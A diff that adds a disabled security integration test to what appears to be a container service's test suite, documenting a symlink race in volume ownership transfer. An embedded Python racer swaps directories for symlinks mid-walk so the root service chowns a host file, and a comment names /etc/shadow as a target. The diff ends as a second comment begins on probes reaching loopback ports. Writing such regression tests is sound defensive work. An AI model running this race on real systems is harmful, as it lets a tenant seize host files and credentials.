@@ -615,6 +615,71 @@ class SecurityIT {
   }
 
   /**
+   * HOLE: when a pod mounts a volume another user owns, the service gives the volume to it (chown of
+   * every file, as root), walking a list of paths made before the first chown. Each chown follows
+   * symlinks in every element but the last: a pod of another set that mounts the same claim (the
+   * claim's first owner) swaps directories for symlinks once the walk has begun, and the service
+   * chowns what they point to. Here a root-owned 0600 file of the machine becomes the uid the editor
+   * chose (a host user's, say); /etc/shadow or the data dir's auth/ would go the same way.
+   */
+  @Disabled("HOLE: VolumeOwnership follows symlinks a running pod swaps into the volume during the walk, chowning files of the machine")
+  @Test
+  void givingAVolumeToItsNewUserNeverChownsAFileOfTheMachine(@Namespace String ns) throws Exception {
+    Editor editor = editor(ns);
+    Path target = Files.createDirectories(Path.of("/var/tmp", "ordinal-attack-" + UUID.randomUUID().toString().substring(0, 8)));
+    Path victim = target.resolve("victim");
+    Files.writeString(victim, "the machine's\n");
+    Files.setPosixFilePermissions(victim, java.nio.file.attribute.PosixFilePermissions.fromString("rw-------"));
+    try {
+      // The claim's first owner: many files to make the walk slow, and 300 directories holding a
+      // file named as the one to take, swapped for symlinks to its directory as soon as the
+      // volume's root changes owner (the walk's first chown).
+      ObjectNode racer = localSet("racer");
+      claim(racer, "data");
+      ObjectNode r = container(racer, "c", "/usr/bin/python3", "-c", """
+          import os, time
+          os.chmod('/data', 0o777)
+          me = os.stat('/data').st_uid
+          for i in range(300):
+              os.makedirs('/data/d%03d' % i)
+              open('/data/d%03d/victim' % i, 'w').close()
+              os.makedirs('/data/g%03d' % i)
+              for j in range(100):
+                  open('/data/g%03d/f%03d' % (i, j), 'w').close()
+          print('ready', flush=True)
+          while os.stat('/data').st_uid == me:
+              time.sleep(0.0005)
+          for i in range(300):
+              os.rename('/data/d%03d' % i, '/data/d%03d.old' % i)
+              os.symlink(os.environ['TARGET_DIR'], '/data/d%03d' % i)
+          print('swapped', flush=True)
+          time.sleep(100000)
+          """);
+      env(r, "TARGET_DIR", target.toString());
+      mount(r, "data", "/data");
+      editor.api().createSet(ns, racer);
+      awaitLog(editor, ns, "racer-0", "c", "ready");
+
+      // Another set's pod mounts the same claim as uid 2000: the service walks the volume to give it away.
+      ObjectNode sharer = localSet("sharer");
+      podSpec(sharer).putObject("securityContext").put("runAsUser", 2000).put("runAsGroup", 2000);
+      podSpec(sharer).putArray("volumes").addObject().put("name", "shared").putObject("persistentVolumeClaim")
+          .put("claimName", "data-racer-0");
+      mount(container(sharer, "c", "/bin/sleep", "100000"), "shared", "/data");
+      editor.api().createSet(ns, sharer);
+      awaitPod(ns, "sharer-0", p -> p.at("/status/containerStatuses/0/state/running").isObject());
+      assertEquals(0, Files.getAttribute(victim, "unix:uid", LinkOption.NOFOLLOW_LINKS),
+          "the service chowned a file of the machine, " + victim + ", to the pod's uid");
+    } finally {
+      try (Stream<Path> files = Files.walk(target)) {
+        for (Path file : files.sorted(java.util.Comparator.reverseOrder()).toList()) {
+          Files.deleteIfExists(file);
+        }
+      }
+    }
+  }
+
+  /**
    * HOLE: probes run in the service, on the machine's network: a tcpSocket or httpGet probe with
    * {@code host: 127.0.0.1} reaches the embedded PostgreSQL and the Temporal Web UI (and every other
    * loopback port), and the pod's readiness tells its editor whether it answered. Upstream's
